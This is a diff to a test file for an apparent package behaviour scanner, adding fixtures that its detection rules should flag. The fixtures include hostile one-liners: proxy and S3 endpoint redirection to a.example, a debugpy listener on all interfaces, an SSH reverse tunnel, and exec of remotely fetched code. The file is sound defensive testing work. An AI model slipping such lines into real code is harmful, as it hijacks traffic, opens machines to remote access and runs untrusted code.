@@ -10,6 +10,13 @@ from package_gate.scanners.behaviour.rules import behaviours
 HARMLESS = "cHJpbnQoJ2hhcm1sZXNzIGZpbGxlcicpCg=="
 
 DOES: list[tuple[str, str]] = [
+    ("leads-others-elsewhere", "import os\nos.environ['HTTPS_PROXY'] = 'http://a.example:3128'"),
+    (
+        "leads-others-elsewhere",
+        "from os import environ as e\ne.update({'AWS_ENDPOINT_URL_S3': 'https://a.example'})",
+    ),
+    ("lets-others-in", "import debugpy\ndebugpy.listen(('0.0.0.0', 5678))"),
+    ("lets-others-in", "import os\nos.system('ssh -fNR 0:localhost:8888 a.example')"),
     ("runs-downloaded-code", "import requests\nexec(requests.get('https://a.example').text)"),
     (
         "runs-downloaded-code",
